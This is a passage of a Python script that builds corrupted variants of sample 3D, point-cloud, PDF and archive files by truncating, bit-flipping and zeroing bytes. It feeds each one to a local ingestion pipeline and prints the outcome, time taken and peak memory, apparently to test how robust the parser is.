    ("doc.pdf", lambda p: samples.make_pdf(p, 2, w=60, h=80)),
    ("cloud.ply", lambda p: samples.make_ply(p, 40)),
    ("cloud-ascii.ply", lambda p: samples.make_ply(p, 20, binary=False)),
    ("cloud.pcd", lambda p: samples.make_pcd(p, 20, binary=True)),
    ("cloud.las", lambda p: samples.make_las(p, 20)),
    ("model.glb", samples.make_glb),
    ("model.obj", samples.make_obj),
    ("model.stl", samples.make_stl),
    ("model-ascii.stl", lambda p: samples.make_stl(p, binary=False)),
    ("points.xyz", lambda p: samples.make_xyz(p, 20)),
    ("scan.e57", samples.make_e57_stub),
    ("pages.zip", lambda p: samples.make_zip(p, {"a.png": _png_bytes(7), "b.png": _png_bytes(8)})),
)
"""Small real files of every accepted format, from the tests' own generators."""


def _png_bytes(seed: int) -> bytes:
    buf = io.BytesIO()
    samples._picture(16, 12, seed=seed).save(buf, format="PNG")
    return buf.getvalue()


def mutate(data: bytes, seed: int, cuts: int = 64, random_cuts: int = 4) -> list[tuple[str, bytes]]:
    """Mutants of one file: cut at every length up to `cuts` bytes and at random points, a few
    bytes flipped, runs zeroed. Deterministic for a seed; each mutant differs from `data`."""
    rng = np.random.default_rng(seed)
    out = [(f"cut{n:03d}", data[:n]) for n in range(1, min(cuts, len(data) - 1) + 1)]
    for n in sorted({int(x) for x in rng.integers(cuts, len(data) - 1, random_cuts)}):
        out.append((f"cut{n:06d}", data[:n]))
    for i in range(6):
        b = bytearray(data)
        for at in rng.integers(0, len(b), 1 + i):
            b[at] ^= 1 << int(rng.integers(0, 8))
        out.append((f"flip{i}", bytes(b)))
    for i in range(3):
        b = bytearray(data)
        start = int(rng.integers(0, len(b)))
        length = int(rng.integers(1, 64))
        b[start : start + length] = bytes(len(b[start : start + length]))
        out.append((f"zero{i}", bytes(b)))
    return [(name, m) for name, m in out if m != data]


def build_mutants(folder: Path) -> tuple[list[Path], list[Path]]:
    """Write every mutant plus two good control pages into `folder`: (mutants, controls)."""
    folder.mkdir(parents=True, exist_ok=True)
    originals = folder.parent / f"{folder.name}-originals"
    originals.mkdir(exist_ok=True)
    mutants = []
    for seed, (name, make) in enumerate(MUTANT_SOURCES):
        data = make(originals / name).read_bytes()
        stem, dot, ext = name.partition(".")
        for label, body in mutate(data, seed):
            path = folder / f"{stem}-{label}{dot}{ext}"
            path.write_bytes(body)
            mutants.append(path)
    controls = [
        samples.make_png(folder / "control-page.png", 64, 48),
        samples.make_tiff(folder / "control-scan.tif", 1, w=64, h=48),
    ]
    return mutants, controls


def shown(name: str) -> str:
    """A name as printable text (control characters and undecodable bytes escaped)."""
    return ascii(name)[1:-1] if not name.isprintable() or not _is_utf8(name) else name


def _is_utf8(name: str) -> bool:
    try:
        name.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def _summary(results: list) -> str:
    """Each distinct outcome once, with how often it occurred."""
    counts = Counter(f"{r.status}: {r.error}" if r.error else r.status for r in results)
    return "; ".join(f"{n}× {text}" if n > 1 else text for text, n in counts.items())


def _ingest_each(folder: Path, cases: list[Case]) -> None:
    """Ingest each case alone into a fresh data folder: outcome, seconds, peak RSS (MiB)."""
    import resource
    import tempfile
    import time

    from scanners.cli.ingest import ingest_paths
    from tests.helpers import make_services

    with tempfile.TemporaryDirectory() as data:
        svc = make_services(Path(data))
        for case in cases:
            start = time.perf_counter()
            try:
                results = ingest_paths(svc, [folder / case.name], None, None, as_json=False)
                outcome = _summary(results)
            except Exception as e:  # a crash is an outcome worth printing here
                outcome = f"CRASH {type(e).__name__}: {e}"
            seconds = time.perf_counter() - start
            peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
            print(f"{shown(case.name)}\t{seconds:.2f}s\t{peak:.0f} MiB\t{outcome}")


def main(argv: list[str]) -> int:
    if not argv or argv[0].startswith("-"):
        print(__doc__, file=sys.stderr)
        return 2
    folder = Path(argv[0])
    cases = build_corpus(folder)
    for case in cases:
        print(f"{shown(case.name)}\t{case.category}\t{case.expect}")
    print(f"{len(cases)} cases in {folder}", file=sys.stderr)
    if "--ingest" in argv[1:]:
        _ingest_each(folder, cases)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
